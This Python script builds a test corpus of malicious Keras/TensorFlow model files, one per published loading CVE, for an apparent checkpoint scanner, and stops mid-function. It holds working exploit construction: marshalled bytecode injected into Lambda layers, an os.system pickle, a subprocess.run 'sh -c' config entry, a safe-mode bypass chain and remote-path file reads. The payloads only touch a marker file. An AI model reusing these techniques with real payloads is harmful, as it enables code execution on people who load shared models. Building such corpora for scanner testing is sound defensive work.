"""Write ``sample_checkpoints/attacks/``: one artifact per published Keras/TensorFlow loading attack.

Usage (from the repo root)::

    .venv/bin/python sample_checkpoints/make_attacks.py

It deletes and rewrites ``sample_checkpoints/attacks/`` except ``TECHNIQUES.md``, and writes
``attacks/MANIFEST.json`` (one entry per planted danger: file, technique, kind, where, payload, notes).
``attacks/TECHNIQUES.md`` (hand-written) says what each technique is and where it was published.

How the files are made. Every model is first written by a real saver (Keras 3 ``model.save`` and
``saving_lib.save_model``, Keras 3 legacy ``.h5``, tf_keras ``model.save`` to ``.h5`` and to a
SavedModel directory, ``tf.saved_model.save``, h5py). Models that carry code are built around a
harmless *placeholder* function (``lambda x: x``); after saving, the placeholder's marshalled bytecode
is swapped for the payload's (marshalled with the same ``func_dump`` the savers use). So no payload is
ever called here, not even on symbolic tensors while a model is built. Configs and bytes are then edited
only where the attack needs it (a path, a module name, an injected attribute, a replaced zip member).
Zip members are rewritten with a fixed timestamp and ``metadata.json`` gets a fixed ``date_saved``;
Keras 3's ``shared_object_id`` values (memory addresses) are renumbered 1, 2, ...; the few config keys that
older Keras rejects (``NEWER_KEYS``, written by Keras >= 3.13) are dropped so the vulnerable versions parse the files; an H5
whose attributes change is copied into a fresh file so no stale attribute bytes remain.

Payloads are benign. If a loader ever ran one, its only effect would be one marker file:

* marshalled bytecode, pickles and shell commands look the directory up *when they run*:
  ``$CKPTDIFF_MARKER_DIR/ckptdiff_marker_<name>`` (``/tmp`` when the variable is unset). MANIFEST
  ``payload`` gives these as the bare name ``ckptdiff_marker_<name>``.
* values fixed in a config or a TF graph cannot read the environment: they name
  ``/tmp/ckptdiff_marker_<name>``; MANIFEST gives these as that absolute path.
* files a loader would *read* (vocabularies, descriptor sets, datasets, SavedModels) are probe paths
  that do not exist here: ``/tmp/ckptdiff_vocab_probe_<name>...``, ``/tmp/ckptdiff_tfsm_probe_<name>``,
  or a ``gs://ckptdiff-probe-bucket/...`` URL. A test creates the local ones and checks nothing opened them.

The marshalled bytecode is Python-version specific: it was written by the Python that ran this script
(the final print names it; the committed corpus was written by CPython 3.11).

Determinism: seeds are fixed, zips are rewritten with fixed timestamps and member order, rewritten H5
files carry no object timestamps, JSON keeps the savers' key order. SavedModel directories are not byte-reproducible (TF puts
run-dependent function names in ``saved_model.pb``), nor is ``hdf5_virtual_dataset.weights.h5`` (libhdf5
leaves one uninitialised byte in the virtual dataset's mapping); every other file is.

Never load these files with a real loader outside a throwaway sandbox.
"""

from __future__ import annotations

import base64
import contextlib
import io
import json
import linecache
import os
import shutil
import sys
import tarfile
import tempfile
import warnings
import zipfile

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "attacks")
KEEP = ("TECHNIQUES.md",)
MARKER_ENV = "CKPTDIFF_MARKER_DIR"
FIXED_MARKER_DIR = "/tmp"
PROBE_DIR = "/tmp"
GS_BUCKET = "gs://ckptdiff-probe-bucket"
ZIP_DATE = (1980, 1, 1, 0, 0, 0)
DATE_SAVED = "1980-01-01@00:00:00"
SEED = 0

MANIFEST: list[dict] = []


# --------------------------------------------------------------------------- payload vocabulary


def marker(name: str) -> str:
    """Bare marker name: the payload joins it to $CKPTDIFF_MARKER_DIR (or /tmp) when it runs."""
    return f"ckptdiff_marker_{name}"


def fixed_marker(name: str) -> str:
    """Absolute marker path for payloads that cannot read the environment (configs, TF graphs)."""
    return f"{FIXED_MARKER_DIR}/ckptdiff_marker_{name}"


def probe(name: str, ext: str = ".txt") -> str:
    return f"{PROBE_DIR}/ckptdiff_vocab_probe_{name}{ext}"


def tfsm_probe(name: str) -> str:
    return f"{PROBE_DIR}/ckptdiff_tfsm_probe_{name}"


def gs_probe(name: str, ext: str = ".txt") -> str:
    return f"{GS_BUCKET}/ckptdiff_vocab_probe_{name}{ext}"


def shell_touch(name: str) -> str:
    """A shell command whose only effect is the marker (the directory is read when it runs)."""
    return f'touch "${{{MARKER_ENV}:-/tmp}}/{marker(name)}"'


PLACEHOLDER_SOURCES = {
    "x": "lambda x: x",
    "loss": "lambda y_true, y_pred: y_pred",
    "residual": "lambda inputs, outputs: outputs",
}
RETURNED = {"x": "x", "loss": "y_pred", "residual": "outputs"}


def _payload_source(name: str, signature: str) -> str:
    args = PLACEHOLDER_SOURCES[signature].split(":")[0][len("lambda ") :]
    ret = RETURNED[signature]
    return (
        f"lambda {args}: (open(__import__('os').path.join(__import__('os').environ.get("
        f"{MARKER_ENV!r}, '/tmp'), {marker(name)!r}), 'w').write('executed'), {ret})[1]"
    )


def _function_from_source(source: str, filename: str):
    """Compile a lambda under a fixed file name (so its bytecode is reproducible) that inspect can show."""
    linecache.cache[filename] = (len(source), None, [source + "\n"], filename)
    return eval(compile(source, filename, "eval"))  # noqa: S307 - building a fixture function, on purpose


def placeholder(signature: str = "x"):
    """A harmless identity function that stands in for the payload while a real saver runs."""
    return _function_from_source(PLACEHOLDER_SOURCES[signature], f"<ckptdiff-placeholder-{signature}>")


def payload_function(name: str, signature: str = "x"):
    """The payload as a function object, to be marshalled. It is never called here."""
    return _function_from_source(_payload_source(name, signature), f"<ckptdiff-payload-{name}>")


def code_b64(fn) -> str:
    """The marshalled bytecode exactly as Keras 3 and tf_keras `func_dump` write it."""
    from keras.src.utils import python_utils

    return python_utils.func_dump(fn)[0]


def pickle_os_system(name: str) -> bytes:
    """A protocol-0 pickle that calls os.system(<touch marker>) when unpickled. Written by hand, never loaded."""
    command = shell_touch(name)
    assert "\n" not in command and "\\" not in command
    return b"cos\nsystem\n(V" + command.encode() + b"\ntR."


def npy_object_array_with_pickle(pickled: bytes) -> bytes:
    """A .npy file declaring a 0-d object array: np.load(allow_pickle=True) unpickles its body."""
    import numpy as np

    buffer = io.BytesIO()
    np.lib.format.write_array_header_1_0(buffer, {"descr": "|O", "fortran_order": False, "shape": ()})
    return buffer.getvalue() + pickled


# --------------------------------------------------------------------------- manifest


def record(file: str, technique: str, kind: str, where: str, payload, notes: str) -> None:
    assert kind in {"code-exec", "file-read", "network", "amplification", "nested"}, kind
    MANIFEST.append({"file": file, "technique": technique, "kind": kind, "where": where, "payload": payload, "notes": notes})


def out(name: str) -> str:
    return os.path.join(OUT, name)


# --------------------------------------------------------------------------- zip and JSON helpers


def _zipinfo(name: str, compress_type: int) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, date_time=ZIP_DATE)
    info.compress_type = compress_type
    info.create_system = 3
    info.external_attr = 0o644 << 16
    return info


def write_zip(path: str, members: list[tuple[str, bytes, int]]) -> None:
    with zipfile.ZipFile(path, "w") as z:
        for name, data, compress_type in members:
            z.writestr(_zipinfo(name, compress_type), data)


def read_zip(path: str) -> list[tuple[str, bytes, int]]:
    with zipfile.ZipFile(path) as z:
        return [(i.filename, z.read(i), i.compress_type) for i in z.infolist()]


def rewrite_keras(path: str, edit_config=None, replace: dict | None = None, add: list | None = None, drop=()) -> None:
    """Rewrite a .keras zip: edit config.json, replace or add members, fix timestamps and date_saved."""
    members = []
    for name, data, compress_type in read_zip(path):
        if name in drop:
            continue
        if name == "config.json":
            config = json.loads(data)
            edited = edit_config(config) if edit_config is not None else None
            config = config if edited is None else edited
            normalize_shared_ids(config)
            drop_newer_keys(config)
            data = json.dumps(config).encode()
        elif name == "metadata.json":
            metadata = json.loads(data)
            metadata["date_saved"] = DATE_SAVED
            data = json.dumps(metadata).encode()
        if replace and name in replace:
            data, compress_type = replace[name]
        members.append((name, data, compress_type))
    members.extend(add or [])
    write_zip(path, members)


def replace_strings(obj, old: str, new: str) -> int:
    """Replace, in place, every string value equal to `old` in a JSON structure. Returns the count."""
    count = 0
    if isinstance(obj, dict):
        for key, value in obj.items():
            if isinstance(value, str) and value == old:
                obj[key] = new
                count += 1
            else:
                count += replace_strings(value, old, new)
    elif isinstance(obj, list):
        for i, value in enumerate(obj):
            if isinstance(value, str) and value == old:
                obj[i] = new
                count += 1
            else:
                count += replace_strings(value, old, new)
    return count


def swap_code(config, signature: str, name: str) -> None:
    replaced = replace_strings(config, code_b64(placeholder(signature)), code_b64(payload_function(name, signature)))
    assert replaced, f"no placeholder bytecode ({signature}) found for {name}"


def layer_by_name(config: dict, name: str) -> dict:
    for layer in config["config"]["layers"]:
        if layer.get("config", {}).get("name") == name or layer.get("name") == name:
            return layer
    raise KeyError(name)


def normalize_shared_ids(config) -> None:
    """Keras 3 writes `shared_object_id` as id() of the shared object (a memory address, different on every
    run). Renumber them 1, 2, ... in order of first appearance: the same objects stay shared."""
    numbers: dict = {}

    def walk(obj):
        if isinstance(obj, dict):
            for key, value in obj.items():
                if key == "shared_object_id" and isinstance(value, int):
                    obj[key] = numbers.setdefault(value, len(numbers) + 1)
                else:
                    walk(value)
        elif isinstance(obj, list):
            for value in obj:
                walk(value)

    walk(config)


NEWER_KEYS = frozenset({"quantization_config", "input_axes", "output_axes"})
"""Config keys Keras 3.15 writes that older Keras rejects as unknown constructor arguments (`quantization_config`
from 3.13, the initializers' `input_axes`/`output_axes` from 3.15; checked by loading with Keras 3.8.0). They are
dropped from every Keras 3 config here so that the *vulnerable* loaders parse the file as far as its payload."""


def drop_newer_keys(config) -> None:
    if isinstance(config, dict):
        for key in [k for k in config if k in NEWER_KEYS and config[k] in (None, -1)]:
            del config[key]
        for value in config.values():
            drop_newer_keys(value)
    elif isinstance(config, list):
        for value in config:
            drop_newer_keys(value)


def h5_rewrite(path: str, attrs: dict, libver=None) -> None:
    """Set root attributes of an H5 file by copying it into a fresh file.

    Setting an attribute in place leaves the old value's bytes behind in the file (HDF5 does not reclaim
    them), which would leak the temporary paths and placeholder code of the first save. h5py copies every
    group, dataset and attribute as is; only the named root attributes change. libver='latest' is needed for
    attributes over 64 KiB (dense attribute storage).
    """
    import h5py
    import numpy as np

    rebuilt = path + ".rebuilt"
    fapl = h5py.h5p.create(h5py.h5p.FILE_ACCESS)
    if libver == "latest":
        fapl.set_libver_bounds(h5py.h5f.LIBVER_LATEST, h5py.h5f.LIBVER_LATEST)
    fcpl = h5py.h5p.create(h5py.h5p.FILE_CREATE)
    fcpl.set_obj_track_times(False)  # no timestamps in the root group's object header: reproducible bytes
    fid = h5py.h5f.create(rebuilt.encode(), h5py.h5f.ACC_TRUNC, fapl=fapl, fcpl=fcpl)
    with h5py.File(path, "r") as src, h5py.File(fid) as dst:
        for key, value in src.attrs.items():
            if key not in attrs:
                dst.attrs[key] = value
        for key in src:
            src.copy(src[key], dst, name=key)
        for key, value in attrs.items():
            if isinstance(value, str) and len(value) > 60_000:
                dst.attrs.create(key, np.bytes_(value.encode()))
            else:
                dst.attrs[key] = value
    os.replace(rebuilt, path)


def h5_edit_attr(path: str, attr: str, edit) -> None:
    import h5py

    with h5py.File(path, "r") as f:
        value = f.attrs[attr]
    config = json.loads(value.decode() if isinstance(value, bytes) else value)
    edited = edit(config)
    config = config if edited is None else edited
    normalize_shared_ids(config)
    drop_newer_keys(config)
    h5_rewrite(path, {attr: json.dumps(config)})


@contextlib.contextmanager
def quiet():
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        yield


# --------------------------------------------------------------------------- tf_keras (Keras 2) artifacts


def _tf_keras_lambda_model():
    import tf_keras

    tf_keras.utils.set_random_seed(SEED)
    inputs = tf_keras.Input(shape=(4,), name="input")
    hidden = tf_keras.layers.Dense(3, name="dense")(inputs)
    marked = tf_keras.layers.Lambda(placeholder("x"), name="marker_lambda")(hidden)
    outputs = tf_keras.layers.Dense(2, name="dense_1")(marked)
    return tf_keras.Model(inputs, outputs, name="hostile_lambda")


def make_cve_2024_3660_h5() -> None:
    file = "cve_2024_3660_lambda.h5"
    with quiet():
        _tf_keras_lambda_model().save(out(file))
    h5_edit_attr(out(file), "model_config", lambda c: swap_code(c, "x", "cve_2024_3660_h5"))
    record(
        file, "CVE-2024-3660", "code-exec",
        "HDF5 root attribute model_config: config.layers[2] (class_name Lambda, name marker_lambda).config.function[0] "
        "(base64 marshal of a code object; function_type 'lambda')",
        marker("cve_2024_3660_h5"),
        "tf_keras 2.x full-model H5 (keras_version attr from tf_keras). tf_keras.models.load_model rebuilds the Lambda "
        "with func_load (marshal.loads) and calls it while the functional graph is rebuilt; safe_mode does not apply to H5.",
    )


def _savedmodel_metadata(path: str):
    from tf_keras.protobuf import saved_metadata_pb2

    metadata = saved_metadata_pb2.SavedMetadata()
    with open(os.path.join(path, "keras_metadata.pb"), "rb") as f:
        metadata.ParseFromString(f.read())
    return metadata


def make_cve_2024_3660_savedmodels() -> None:
    from tensorflow.core.protobuf import saved_model_pb2

    new = "cve_2024_3660_lambda_savedmodel"
    old = "cve_2024_3660_tf24_user_object_metadata"
    with quiet():
        _tf_keras_lambda_model().save(out(new), save_format="tf")
    # TF >= 2.5 layout: the layer configs live in keras_metadata.pb.
    metadata = _savedmodel_metadata(out(new))
    paths = []
    for node in metadata.nodes:
        config = json.loads(node.metadata)
        if replace_strings(config, code_b64(placeholder("x")), code_b64(payload_function("cve_2024_3660_savedmodel"))):
            paths.append(f"{node.node_path} (node_id {node.node_id}, {node.identifier})")
        node.metadata = json.dumps(config)
    assert paths
    with open(os.path.join(out(new), "keras_metadata.pb"), "wb") as f:
        f.write(metadata.SerializeToString(deterministic=True))
    shutil.rmtree(os.path.join(out(new), "assets"), ignore_errors=True)
    record(
        new, "CVE-2024-3660", "code-exec",
        "keras_metadata.pb: SavedMetadata.nodes[].metadata JSON of " + "; ".join(paths)
        + ": ...config.function[0] of the Lambda marker_lambda (base64 marshal)",
        marker("cve_2024_3660_savedmodel"),
        "tf_keras SavedModel (TF >= 2.5 layout). tf_keras.models.load_model(dir) revives layers from these JSON configs "
        "(Lambda.from_config -> func_load). The traced graph in saved_model.pb is the harmless placeholder.",
    )

    # TF 2.2-2.4 layout: the same JSON in SavedObject.user_object.metadata, no keras_metadata.pb.
    shutil.copytree(out(new), out(old))
    metadata = _savedmodel_metadata(out(old))
    pb_path = os.path.join(out(old), "saved_model.pb")
    saved_model = saved_model_pb2.SavedModel()
    with open(pb_path, "rb") as f:
        saved_model.ParseFromString(f.read())
    nodes = saved_model.meta_graphs[0].object_graph_def.nodes
    where = []
    for node in metadata.nodes:
        config = json.loads(node.metadata)
        swapped = replace_strings(
            config, code_b64(payload_function("cve_2024_3660_savedmodel")), code_b64(payload_function("cve_2024_3660_tf24"))
        )
        proto = nodes[node.node_id]
        assert proto.WhichOneof("kind") == "user_object" and proto.user_object.identifier == node.identifier
        proto.user_object.metadata = json.dumps(config)
        if swapped:
            where.append(f"nodes[{node.node_id}] ({node.node_path}, {node.identifier})")
    with open(pb_path, "wb") as f:
        f.write(saved_model.SerializeToString(deterministic=True))
    os.remove(os.path.join(out(old), "keras_metadata.pb"))
    if os.path.exists(os.path.join(out(old), "fingerprint.pb")):
        os.remove(os.path.join(out(old), "fingerprint.pb"))  # TF 2.4 wrote none; it would no longer match anyway
    record(
        old, "CVE-2024-3660", "code-exec",
        "saved_model.pb: meta_graphs[0].object_graph_def " + "; ".join(where)
        + ".user_object.metadata JSON: ...config.function[0] of the Lambda marker_lambda (base64 marshal)",
        marker("cve_2024_3660_tf24"),
        "TF 2.2-2.4 style Keras SavedModel: no keras_metadata.pb, no fingerprint.pb; tf_keras' loader falls back to "
        "_read_legacy_metadata, which reads user_object.metadata of every node whose identifier is _tf_keras_*. "
        "Made from the tf_keras SavedModel by moving each SavedMetadata node's JSON into its SavedObject.",
    )


def make_residual_wrapper_h5() -> None:
    import tf_keras
    from tf_keras.src.layers.rnn.cell_wrappers import ResidualWrapper

    file = "residual_wrapper_bytecode.h5"
    tf_keras.utils.set_random_seed(SEED)
    inputs = tf_keras.Input(shape=(3, 4), name="input")
    cell = ResidualWrapper(tf_keras.layers.SimpleRNNCell(4, name="cell"), residual_fn=placeholder("residual"))
    outputs = tf_keras.layers.RNN(cell, name="rnn")(inputs)
    model = tf_keras.Model(inputs, outputs, name="hostile_residual")
    with quiet():
        model.save(out(file))
    h5_edit_attr(out(file), "model_config", lambda c: swap_code(c, "residual", "residual_wrapper"))
    record(
        file, "ResidualWrapper.residual_fn", "code-exec",
        "HDF5 root attribute model_config: config.layers[1] (RNN rnn).config.cell (class_name ResidualWrapper).config."
        "residual_fn[0] with residual_fn_type 'lambda' (base64 marshal)",
        marker("residual_wrapper"),
        "tf_keras RNN cell wrapper: _parse_config_to_function calls func_load on residual_fn unless in_safe_mode() is "
        "true, and the tf_keras H5 loader never sets safe mode. Same marshalled-bytecode mechanism as CVE-2024-3660, "
        "outside any Lambda layer. The function runs when the cell is called (on model rebuild or inference).",
    )


def _tf_keras_lookup_h5(file: str, layer: str, vocab_path: str) -> None:
    import tf_keras

    tf_keras.utils.set_random_seed(SEED)
    with tempfile.TemporaryDirectory() as tmp:
        local = os.path.join(tmp, "vocab.txt")
        with open(local, "w") as f:
            f.write("1\n2\n3\n" if layer == "IntegerLookup" else "alpha\nbeta\ngamma\n")
        dtype = "int64" if layer == "IntegerLookup" else "string"
        inputs = tf_keras.Input(shape=(1,), dtype=dtype, name="input")
        lookup = getattr(tf_keras.layers, layer)(vocabulary=local, name="lookup")(inputs)
        model = tf_keras.Model(inputs, lookup, name="lookup_model")
        with quiet():
            model.save(out(file))

        def edit(config):
            assert replace_strings(config, local, vocab_path) == 1

        h5_edit_attr(out(file), "model_config", edit)
    kind = "network" if vocab_path.startswith("gs://") else "file-read"
    record(
        file, "CVE-2025-12058", kind,
        f"HDF5 root attribute model_config: config.layers[1] (class_name {layer}, name lookup).config.vocabulary",
        vocab_path,
        f"tf_keras writes the vocabulary *path* into the config when {layer} was built from a file (this file was "
        "written that way, then the path was changed). Building the model (tf_keras load_model, Keras 3 legacy-H5 "
        "load, or ckptdiff check --model) opens the path with tf.io.gfile"
        + (" (gs:// goes to Google Cloud Storage)." if kind == "network" else "."),
    )


def make_cve_2025_12058_h5() -> None:
    _tf_keras_lookup_h5("cve_2025_12058_stringlookup_local.h5", "StringLookup", probe("stringlookup_local_h5"))
    _tf_keras_lookup_h5("cve_2025_12058_stringlookup_gs.h5", "StringLookup", gs_probe("stringlookup_gs_h5"))
    _tf_keras_lookup_h5("cve_2025_12058_integerlookup_local.h5", "IntegerLookup", probe("integerlookup_local_h5"))
    _tf_keras_lookup_h5("cve_2025_12058_textvectorization_gs.h5", "TextVectorization", gs_probe("textvectorization_gs_h5"))


# --------------------------------------------------------------------------- Keras 3 artifacts


def _keras3_tiny(name: str = "tiny"):
    import keras

    keras.utils.set_random_seed(SEED)
    inputs = keras.Input(shape=(4,), name="input")
    hidden = keras.layers.Dense(3, activation="relu", name="dense")(inputs)
    outputs = keras.layers.Dense(2, name="dense_1")(hidden)
    return keras.Model(inputs, outputs, name=name)


def _keras3_lambda_model():
    import keras

    keras.utils.set_random_seed(SEED)
    inputs = keras.Input(shape=(4,), name="input")
    hidden = keras.layers.Dense(3, name="dense")(inputs)
    marked = keras.layers.Lambda(placeholder("x"), name="marker_lambda")(hidden)
    outputs = keras.layers.Dense(2, name="dense_1")(marked)
    return keras.Model(inputs, outputs, name="hostile_lambda")


def _save_keras(model, path: str, **kwargs) -> None:
    with quiet():
        if kwargs:
            from keras.src.saving import saving_lib

            saving_lib.save_model(model, path, **kwargs)
        else:
            model.save(path)


def make_cve_2025_9905_h5() -> None:
    import keras

    file = "cve_2025_9905_lambda_keras3.h5"
    with quiet():
        keras.saving.save_model(_keras3_lambda_model(), out(file))
    h5_edit_attr(out(file), "model_config", lambda c: swap_code(c, "x", "cve_2025_9905"))
    record(
        file, "CVE-2025-9905", "code-exec",
        "HDF5 root attribute model_config: config.layers[2] (Lambda marker_lambda).config.function "
        "{class_name: __lambda__, config: {code: <base64 marshal>}}",
        marker("cve_2025_9905"),
        "Keras 3 writing the legacy H5 format (keras_version attr 3.x). keras.saving.load_model on .h5/.hdf5 ignored "
        "safe_mode=True before 3.11.3 and unmarshalled the Lambda.",
    )


def make_lambda_loss() -> None:
    import keras

    # Keras 3 .keras: the real saver writes compile_config.loss as {class_name: __lambda__, config: {value: [code, ...]}}
    file = "lambda_loss_compile_config.keras"
    model = _keras3_tiny("hostile_loss")
    model.compile(optimizer="sgd", loss=placeholder("loss"))
    _save_keras(model, out(file))
    rewrite_keras(out(file), edit_config=lambda c: swap_code(c["compile_config"], "loss", "lambda_loss_keras"))
    record(
        file, "lambda-loss", "code-exec",
        "config.json: compile_config.loss {class_name: __lambda__, config: {value: [<base64 marshal>, null, null]}}",
        marker("lambda_loss_keras"),
        "Written as-is by Keras 3 model.save after compile(loss=<lambda>). load_model(compile=True) deserializes the "
        "loss; with safe_mode=False (or on Keras versions whose safe mode was bypassed) it is unmarshalled and runs "
        "on the first training/evaluation step.",
    )

    # Legacy H5: Keras 3 writes the loss of a lambda as the bare name "<lambda>"; the attack puts the serialised
    # __lambda__ (as serialize_keras_object writes it) in training_config.loss.
    file = "lambda_loss_training_config.h5"
    model = _keras3_tiny("hostile_loss")
    model.compile(optimizer="sgd", loss="mse")
    with quiet():
        keras.saving.save_model(model, out(file))
        serialized = keras.saving.serialize_keras_object(payload_function("lambda_loss_h5", "loss"))
    assert serialized["class_name"] == "__lambda__"

    def edit(training_config):
        training_config["loss"] = serialized

    h5_edit_attr(out(file), "training_config", edit)
    record(
        file, "lambda-loss", "code-exec",
        "HDF5 root attribute training_config: loss {class_name: __lambda__, config: {value: [<base64 marshal>, ...]}}",
        marker("lambda_loss_h5"),
        "Legacy H5 (written by Keras 3, then training_config.loss replaced by keras.saving.serialize_keras_object of "
        "the payload lambda). load_model(compile=True) deserializes training_config; the legacy H5 path ignored "
        "safe_mode before Keras 3.11.3 (CVE-2025-9905).",
    )


def make_cve_2025_1550() -> None:
    file = "cve_2025_1550_module_function.keras"
    _save_keras(_keras3_tiny("hostile_1550"), out(file))
    command = ["sh", "-c", shell_touch("cve_2025_1550")]

    def edit(config):
        config["config"]["layers"].insert(1, {
            "module": "subprocess", "class_name": "run", "config": {}, "registered_name": None,
            "name": "run", "inbound_nodes": [{"args": [command], "kwargs": {}}],
        })

    rewrite_keras(out(file), edit_config=edit)
    record(
        file, "CVE-2025-1550", "code-exec",
        "config.json: config.layers[1] = {module: subprocess, class_name: run, inbound_nodes: [{args: [[sh, -c, ...]]}]}",
        marker("cve_2025_1550"),
        "Keras < 3.9 imported any module named in a layer entry (_retrieve_class_or_fn) and returned a plain function "
        "as the 'layer'; functional_from_config then calls it with the node's args: subprocess.run(['sh','-c','touch "
        "...']) at load time, with safe_mode=True. The shell reads $CKPTDIFF_MARKER_DIR when it runs.",
    )


def _lambda_function_ref(module: str, name: str) -> dict:
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


def _lambda_entry(name: str, function: dict, arguments: dict, inbound_kwargs: dict) -> dict:
    return {
        "module": "keras.layers", "class_name": "Lambda", "registered_name": None, "name": name,
        "config": {"name": name, "trainable": True, "function": function, "arguments": arguments},
        "build_config": {"input_shape": [None, 4]},
        "inbound_nodes": [{"args": [], "kwargs": inbound_kwargs}],
    }


def make_cve_2025_8747() -> None:
    file = "cve_2025_8747_get_file.keras"
    _save_keras(_keras3_tiny("hostile_8747"), out(file))
    origin = "file://" + probe("cve_2025_8747")
    target = fixed_marker("cve_2025_8747")

    def edit(config):
        config["config"]["layers"].insert(1, _lambda_entry(
            "fetch", _lambda_function_ref("keras.utils", "get_file"),
            {"origin": origin, "cache_dir": os.path.dirname(target), "cache_subdir": ""},
            {"inputs": os.path.basename(target)},
        ))

    rewrite_keras(out(file), edit_config=edit)
    record(
        file, "CVE-2025-8747", "code-exec",
        "config.json: config.layers[1] (Lambda fetch).config.function = {module: keras.utils, class_name: function, "
        "config: get_file}; .config.arguments {origin, cache_dir, cache_subdir}; inbound_nodes[0].kwargs.inputs = fname",
        [target, probe("cve_2025_8747")],
        "Keras 3.9-3.10 still resolved keras.* functions for a Lambda under safe_mode (only __lambda__ bytecode was "
        "refused), so a Lambda whose function is keras.utils.get_file downloads 'origin' to cache_dir/fname at load. "
        "Here origin is a file:// probe and the target is the fixed marker path (a config cannot read the "
        "environment). 3.11.0 refuses keras.utils.get_file by name (LOADING_APIS, later NON_MODELING_APIS).",
    )


def _lambda_with_payload(name: str, marker_name: str, inbound: str) -> dict:
    code = code_b64(payload_function(marker_name))
    return {
        "module": "keras.layers", "class_name": "Lambda", "registered_name": None, "name": name,
        "config": {"name": name, "trainable": True,
                   "function": {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}},
                   "arguments": {}},
        "build_config": {"input_shape": [None, 3]},
        "inbound_nodes": [{"args": [{"class_name": "__keras_tensor__",
                                     "config": {"shape": [None, 3], "dtype": "float32", "keras_history": [inbound, 0, 0]}}],
                           "kwargs": {}}],
    }


def make_cve_2025_9906() -> None:
    # As the advisory states it: config.json invokes keras.config.enable_unsafe_deserialization, then a Lambda
    # with marshalled code follows.
    file = "cve_2025_9906_enable_unsafe_deserialization.keras"
    _save_keras(_keras3_tiny("hostile_9906"), out(file))

    def edit(config):
        layers = config["config"]["layers"]
        layers.insert(1, _lambda_entry("unsafe", _lambda_function_ref("keras.config", "enable_unsafe_deserialization"), {}, {}))
        layers.insert(3, _lambda_with_payload("marker_lambda", "cve_2025_9906", "dense"))

    rewrite_keras(out(file), edit_config=edit)
    record(
        file, "CVE-2025-9906", "code-exec",
        "config.json: config.layers[1] (Lambda unsafe).config.function = {module: keras.config, class_name: function, "
        "config: enable_unsafe_deserialization}; config.layers[3] (Lambda marker_lambda).config.function = "
        "{class_name: __lambda__, config: {code: <base64 marshal>}}",
        marker("cve_2025_9906"),
        "The order the advisory gives: the call that turns safe mode off appears first in config.json, the Lambda "
        "with marshalled code second. How the advisory's PoC calls enable_unsafe_deserialization (it takes no "
        "arguments) is not public; see cve_2025_9906_set_global_attribute.keras for the reporter's working chain.",
    )
    record(
        file, "keras.config.enable_unsafe_deserialization", "code-exec",
        "config.json: config.layers[1].config.function (a Lambda whose function is this non-modeling API)",
        marker("cve_2025_9906"),
        "Keras >= 3.11 refuses this API by name during deserialization (serialization_lib NON_MODELING_APIS).",
    )

    # The reporter's chain (io-no/CVE-Reports#5): set_global_attribute('safe_mode_saving', value=False) from a
    # Lambda, then keras.models.load_model(<path>, safe_mode=False) from another Lambda.
    file = "cve_2025_9906_set_global_attribute.keras"
    _save_keras(_keras3_tiny("hostile_9906_chain"), out(file))
    second_stage = probe("cve_2025_9906", ".keras")

    def edit_chain(config):
        layers = config["config"]["layers"]
        layers.insert(1, _lambda_entry(
            "disable_safe_mode", _lambda_function_ref("keras.src.backend.common.global_state", "set_global_attribute"),
            {"value": False}, {"inputs": "safe_mode_saving"},
        ))
        layers.insert(2, _lambda_entry(
            "second_stage", _lambda_function_ref("keras.models", "load_model"), {"safe_mode": False},
            {"inputs": second_stage},
        ))

    rewrite_keras(out(file), edit_config=edit_chain)
    record(
        file, "CVE-2025-9906", "code-exec",
        "config.json: config.layers[1] (Lambda disable_safe_mode).config.function = {module: "
        "keras.src.backend.common.global_state, config: set_global_attribute}, arguments {value: false}, "
        "inbound_nodes[0].kwargs.inputs 'safe_mode_saving'; config.layers[2] (Lambda second_stage).config.function = "
        "{module: keras.models, config: load_model}, arguments {safe_mode: false}, inputs = second-stage path",
        second_stage,
        "Keras < 3.11 resolved any function of a keras.* module for a Lambda. The first Lambda turns the global safe "
        "mode off, the second loads a second .keras (the probe path) with safe_mode=False, whose Lambda bytecode then "
        "runs. The second stage is not shipped: the probe path must stay unopened.",
    )
    record(
        file, "keras.models.load_model", "code-exec",
        "config.json: config.layers[2] (Lambda second_stage).config.function",
        second_stage,
        "A loading API named inside a config (refused by name from Keras 3.11: LOADING_APIS / NON_MODELING_APIS).",
    )


def make_non_modeling_apis() -> None:
    file = "non_modeling_apis_outside_lambda.keras"
    model = _keras3_tiny("hostile_apis")
    model.compile(optimizer="sgd", loss="mse")
    _save_keras(model, out(file))

    def edit(config):
        dense = layer_by_name(config, "dense")["config"]
        dense_1 = layer_by_name(config, "dense_1")["config"]
        dense["activation"] = _lambda_function_ref("keras.config", "enable_unsafe_deserialization")
        dense_1["kernel_initializer"] = _lambda_function_ref("keras.utils", "get_file")
        config["compile_config"]["loss"] = _lambda_function_ref("keras.models", "load_model")

    rewrite_keras(out(file), edit_config=edit)
    where = {
        "keras.config.enable_unsafe_deserialization": "config.json: config.layers[1] (Dense dense).config.activation",
        "keras.utils.get_file": "config.json: config.layers[2] (Dense dense_1).config.kernel_initializer",
        "keras.models.load_model": "config.json: compile_config.loss",
    }
    for api, place in where.items():
        module, _, name = api.rpartition(".")
        record(
            file, api, "code-exec", f"{place} = {{module: {module}, class_name: function, config: {name}}}",
            None,
            "A non-modeling Keras API named where a layer argument or loss is expected, outside any Lambda. No marker: "
            "called with a tensor it would fail, but Keras resolves (imports) it at deserialization and versions "
            "before 3.11 returned it; Keras >= 3.11 refuses these names (NON_MODELING_APIS).",
        )


def _lookup_keras(file: str, layer: str, vocabulary: str) -> None:
    import keras

    keras.utils.set_random_seed(SEED)
    with tempfile.TemporaryDirectory() as tmp:
        local = os.path.join(tmp, "vocab.txt")
        with open(local, "w") as f:
            f.write("1\n2\n3\n" if layer == "IntegerLookup" else "alpha\nbeta\ngamma\n")
        dtype = "int64" if layer == "IntegerLookup" else "string"
        inputs = keras.Input(shape=(1,), dtype=dtype, name="input")
        outputs = getattr(keras.layers, layer)(vocabulary=local, name="lookup")(inputs)
        _save_keras(keras.Model(inputs, outputs, name="lookup_model"), out(file))

    def edit(config):
        layer_by_name(config, "lookup")["config"]["vocabulary"] = vocabulary

    rewrite_keras(out(file), edit_config=edit)
    kind = "network" if vocabulary.startswith("gs://") else "file-read"
    record(
        file, "CVE-2025-12058", kind,
